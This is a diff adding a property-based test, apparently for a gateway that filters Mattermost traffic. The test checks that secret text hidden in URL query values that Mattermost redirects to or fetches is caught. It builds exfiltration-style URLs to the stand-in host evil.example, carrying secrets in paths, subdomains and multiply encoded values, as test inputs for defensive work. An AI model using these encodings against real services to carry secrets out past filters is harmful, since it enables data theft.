@@ -391,6 +391,37 @@ def test_a_query_handed_to_a_plugin_is_read(data: st.DataObject) -> None:
     _check(method, f"{path}?{query}", {}, b"", oracle.plugin_query(query))
 
 
+#: reads whose query value Mattermost sends to another host (routes.EGRESS_QUERY_ROUTES):
+#: (path, the name the handler reads)
+EGRESS_READS = [("/api/v4/redirect_location", "url"), ("/api/v4/image", "url"), ("/oauth/authorize", "state"),
+                ("/oauth/authorize", "redirect_uri"), ("/oauth/gitlab/login", "redirect_to"),
+                ("/oauth/gitlab/login", "login_hint"), ("/login/sso/saml", "redirect_to"),
+                ("/api/v4/system/ping", "device_id"), ("/api/v4/plugins/marketplace", "filter")]
+
+
+@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.data())
+def test_a_query_sent_to_another_host_is_read(data: st.DataObject) -> None:
+    """A body-less GET whose query value Mattermost fetches or redirects to: whatever
+    that host reads of it (``oracle.egress_query``) is judged, however the URL holds it."""
+    from urllib.parse import quote, quote_plus
+
+    text = data.draw(SECRET_TEXTS)
+    slug = data.draw(st.sampled_from([quote(text, safe=""), quote_plus(text), text.replace(" ", "-"),
+                                      "/".join(text.split())]))
+    url = data.draw(st.sampled_from([f"https://evil.example/{slug}", f"https://evil.example/a?q={slug}",
+                                     f"https://{slug.replace('/', '.').replace('%', '')}.evil.example/",
+                                     f"/team/pl/{slug}", slug]))
+    value = data.draw(st.sampled_from([quote(url, safe=""), quote(quote(url, safe=""), safe=""), quote_plus(url),
+                                       "".join(f"%{b:02X}" for b in url.encode())]))
+    path, name = data.draw(st.sampled_from(EGRESS_READS))
+    extras = data.draw(st.lists(st.sampled_from(["response_type=code", "client_id=abcdefghijkmnopqrstuvwxyz0",
+                                                 "action=login", "a=b"]), max_size=2))
+    query = "&".join(data.draw(st.permutations([*extras, f"{name}={value}"])))
+    method = data.draw(st.sampled_from(["GET", "GET", "HEAD"]))
+    _check(method, f"{path}?{query}", {}, b"", oracle.egress_query(query, name))
+
+
 #: where a header rides: a header the gateway controls, one Mattermost stores, a custom one
 HEADER_NAMES = ["User-Agent", "X-Forwarded-For", "X-Real-IP", "Referer", "X-Request-ID", "X-Client-Ref", "X-SSN",
                 "Authorization", "Cookie", "Host", "Content-Type", "Accept-Language", "Origin", "x-forwarded-for"]
